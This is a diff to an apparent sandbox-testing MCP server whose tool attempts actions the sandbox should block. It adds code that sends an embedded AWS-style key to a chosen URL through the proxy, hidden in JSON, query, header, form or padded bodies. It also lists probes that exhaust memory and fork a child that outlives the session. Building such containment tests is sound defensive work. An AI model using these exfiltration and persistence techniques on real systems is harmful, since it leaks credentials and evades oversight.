@@ -14,6 +14,11 @@ under any python3 the sandbox can read.
   direct    GET the URL `target` directly, ignoring any proxy
   tunnel    GET / from `target` (host:port) through a CONNECT tunnel of
             the proxy in $HTTP_PROXY
+  post      POST a JSON body holding `body` (default: a harmless note)
+            to the URL `target` through the proxy
+  exfil     send an AWS access key the server holds to the URL `target`
+            through the proxy, in `body` (one of `json`, `query`,
+            `header`, `form`, `big`: a 64 KiB body ending with it)
   hog       fork children that each fill `target` MiB of memory and hold it
   linger    fork a child that ignores hang-ups and terminations, leaves the
             session's pipes and appends a byte to $HOME/alive every 100 ms
@@ -31,7 +36,18 @@ import urllib.parse
 import urllib.request
 
 
-def probe(what, target):
+# A credential the server holds (the scanner's sample AWS key id), put
+# together at run time: it never passes the MCP session.
+KEY = "AKIA" + "QWADE5R42RDZ4JEM"
+
+
+def send(target, data=None, headers=None):
+    req = urllib.request.Request(target, data=data, headers=headers or {})
+    with urllib.request.urlopen(req, timeout=10) as r:
+        return "ALLOWED: %d %s" % (r.status, r.read().decode())
+
+
+def probe(what, target, body=""):
     try:
         if what == "read":
             with open(target, "rb") as f:
@@ -79,6 +95,23 @@ def probe(what, target):
             c.request("GET", "/tunnelled")
             r = c.getresponse()
             return "ALLOWED: %d %s" % (r.status, r.read().decode())
+        if what == "post":
+            note = json.dumps({"note": body or "quarterly numbers"}).encode()
+            return send(target, note, {"Content-Type": "application/json"})
+        if what == "exfil":
+            if body == "json":
+                return send(target, json.dumps({"x": {"note": KEY}}).encode(),
+                            {"Content-Type": "application/json"})
+            if body == "query":
+                return send(target + "?q=" + KEY)
+            if body == "header":
+                return send(target, headers={"X-Note": KEY})
+            if body == "form":
+                return send(target, urllib.parse.urlencode({"k": KEY}).encode(),
+                            {"Content-Type": "application/x-www-form-urlencoded"})
+            if body == "big":
+                return send(target, ("x" * 65536 + KEY).encode(), {"Content-Type": "text/plain"})
+            return "unknown exfil"
         if what == "hog":
             size = int(target) * 1024 * 1024
             for _ in range(3):
@@ -120,7 +153,11 @@ TOOL = {
     "description": "Tries something the sandbox should refuse.",
     "inputSchema": {
         "type": "object",
-        "properties": {"what": {"type": "string"}, "target": {"type": "string"}},
+        "properties": {
+            "what": {"type": "string"},
+            "target": {"type": "string"},
+            "body": {"type": "string"},
+        },
         "required": ["what"],
     },
 }
@@ -146,7 +183,7 @@ for line in sys.stdin:
         answer(id_, {"tools": [TOOL]})
     elif method == "tools/call":
         args = msg["params"].get("arguments", {})
-        text = probe(args.get("what"), args.get("target", ""))
+        text = probe(args.get("what"), args.get("target", ""), args.get("body", ""))
         answer(id_, {"content": [{"type": "text", "text": text}]})
     else:
         sys.stdout.write(json.dumps({"jsonrpc": "2.0", "id": id_, "error": {"code": -32601, "message": "no such method"}}) + "\n")
